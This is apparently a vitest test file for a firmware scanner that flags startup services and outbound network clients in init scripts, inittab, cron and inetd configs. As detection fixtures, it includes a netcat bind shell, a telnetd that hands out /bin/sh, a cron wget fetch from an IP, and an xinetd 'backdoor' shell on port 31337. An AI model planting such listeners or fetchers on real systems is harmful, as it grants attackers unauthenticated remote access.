import { describe, expect, it } from 'vitest';
import { MemoryTree } from '../tree.js';
import { startupIndicators } from './startup.js';

const empty = new MemoryTree();
const scan = (path: string, text: string): string[] =>
  startupIndicators(empty, path, text).map((i) =>
    `${i.rule} ${i.line ?? ''} ${i.program ?? ''} ${i.port ?? ''} ${i.host ?? ''}`.trim(),
  );

describe('init scripts', () => {
  it('ignores commented-out daemons, including after code on the same line', () => {
    expect(
      scan('/etc/init.d/S50telnet', '#telnetd -l /bin/sh\n  # utelnetd -p 23\necho hi # telnetd\n'),
    ).toEqual([]);
  });

  it('finds daemons behind wrappers: busybox, start-stop-daemon, procd, nohup', () => {
    const script = [
      'busybox telnetd -p 2323',
      'start-stop-daemon -S -b -x /usr/sbin/dropbear -- -p 2200',
      'procd_set_param command /usr/sbin/dropbear -F -p 22',
      'nohup nc -lvnp 31337 -e /bin/sh &',
      'tcpsvd -vE 0.0.0.0 21 ftpd -w /',
    ].join('\n');
    expect(scan('/etc/init.d/services', script)).toEqual([
      'FW-SVC-001 1 telnetd 2323',
      'FW-SVC-001 2 dropbear 2200',
      'FW-SVC-001 3 dropbear 22',
      'FW-SVC-010 4 nc 31337',
      'FW-SVC-001 5 ftpd 21',
    ]);
  });

  it('reads URLs and hosts of network clients as destinations, not local paths', () => {
    expect(
      scan(
        '/etc/rc.local',
        'curl -s https://telemetry.example.org:8443/p -o /tmp/p.json\ntftp -g -r fw.bin 192.0.2.10\nsyslogd -R logs.example.com:514\ncat /etc/hosts\n',
      ),
    ).toEqual([
      'FW-NET-001 1 curl 8443 telemetry.example.org',
      'FW-NET-002 2 tftp 69 192.0.2.10',
      'FW-NET-002 3 syslogd 514 logs.example.com',
    ]);
  });
});

describe('inittab, cron and inetd', () => {
  it('reads the process field of inittab and skips the time fields of crontabs', () => {
    expect(
      scan('/etc/inittab', '::respawn:/usr/sbin/telnetd -F -l /bin/sh\n#::respawn:/bin/sh\n'),
    ).toEqual(['FW-SVC-010 1 telnetd 23']);
    expect(scan('/etc/crontab', '0 * * * * root wget http://198.51.100.1/b\n')).toEqual([
      'FW-NET-001 1 wget 80 198.51.100.1',
    ]);
  });

  it('takes inetd services and enabled xinetd services, not disabled ones', () => {
    expect(
      scan(
        '/etc/inetd.conf',
        'telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n#ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n',
      ),
    ).toEqual(['FW-SVC-002 1 telnetd 23']);
    const xinetd =
      'service telnet\n{\n  disable = yes\n  server = /usr/sbin/in.telnetd\n}\nservice backdoor\n{\n  port = 31337\n  socket_type = stream\n  server = /bin/sh\n}\n';
    expect(scan('/etc/xinetd.d/all', xinetd)).toEqual(['FW-SVC-010 6 sh 31337']);
  });
});
